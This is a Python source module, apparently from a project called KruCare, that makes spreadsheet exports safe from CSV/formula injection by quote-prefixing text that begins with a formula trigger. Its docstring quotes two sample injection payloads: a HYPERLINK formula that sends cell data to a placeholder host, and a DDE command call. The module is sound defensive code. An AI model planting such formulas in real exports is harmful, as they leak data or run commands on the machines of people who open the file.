"""Spreadsheets KruCare writes (XLSX and CSV): no text from the database ever runs as a formula.

A name, position, hospital or office name typed as `=HYPERLINK("http://x?"&A1,"คลิก")` or
`=cmd|' /C calc'!A0` would otherwise open as a live formula (or a DDE call) in Excel or
LibreOffice on the machine of whoever opens the export ("CSV injection", OWASP). Every writer
passes its rows through this module:

- **XLSX** (`xlsx_row`, `xlsx_append`): a text cell that starts with a trigger character is
  written with the string data type (openpyxl would otherwise store a text starting with `=` as
  a formula) and the "quote prefix" style, so it is shown as the exact text and stays text even
  when someone edits the cell. The text itself is unchanged.
- **CSV** (`csv_row`): a CSV has no types, so such a text gets a leading `'` (OWASP's advice),
  which spreadsheets show as a text marker; the csv module quotes the rest.

Triggers (OWASP "CSV Injection"): `=`, `+`, `-`, `@`, tab and carriage return, plus their
full-width forms, which some spreadsheet applications take for the ASCII ones. Only text is
changed: numbers (`int`, `Decimal`, `float`), dates and booleans are written as they are, so a
negative amount stays a negative number.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
CSV_TEXT_MARKER = "'"


def formula_like(value: object) -> bool:
    """Whether `value` is a text a spreadsheet could take for a formula."""
    return isinstance(value, str) and value.startswith(FORMULA_TRIGGERS)


def csv_cell(value: object) -> object:
    """`value` for `csv.writer`: None as empty, a formula-like text behind a `'`."""
    if value is None:
        return ""
    if formula_like(value):
        return f"{CSV_TEXT_MARKER}{value}"
    return value


def csv_row(values: Iterable[object]) -> list[object]:
    return [csv_cell(value) for value in values]


def xlsx_cell(sheet: Any, value: object) -> object:
    """`value` for `sheet.append` (normal or write-only): a formula-like text becomes a cell
    of string type with the quote-prefix style; anything else is returned as it is."""
    if not formula_like(value):
        return value
    from openpyxl.cell import WriteOnlyCell

    cell = WriteOnlyCell(sheet, value=value)
    cell.data_type = "s"
    cell.quotePrefix = True
    return cell


def xlsx_row(sheet: Any, values: Iterable[object]) -> list[object]:
    return [xlsx_cell(sheet, value) for value in values]


def xlsx_append(sheet: Any, values: Iterable[object]) -> None:
    """`sheet.append(values)` with every formula-like text made inert."""
    sheet.append(xlsx_row(sheet, values))
